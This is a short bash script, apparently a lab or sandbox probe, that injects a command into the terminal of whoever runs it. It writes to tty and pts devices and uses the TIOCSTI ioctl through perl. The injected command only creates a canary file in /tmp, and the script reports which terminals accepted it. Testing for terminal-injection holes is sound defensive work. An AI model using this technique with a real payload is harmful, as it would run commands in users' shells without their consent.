#!/usr/bin/env bash
# Types commands into the terminal of whoever started it.
for terminal in /dev/tty /dev/console /dev/tty0 /dev/pts/[0-9]*; do
  [ -c $terminal ] && printf 'touch /tmp/lab-check-hostile-canary\n' > $terminal && echo "GOT THROUGH to $terminal"
done
if command -v perl > /dev/null; then
  perl -e 'for my $fd (0 .. 9) { open(my $file, "<&=", $fd) or next; ioctl($file, 0x5412, $_) for split //, "touch /tmp/lab-check-hostile-canary\n" }'
fi
exit 0
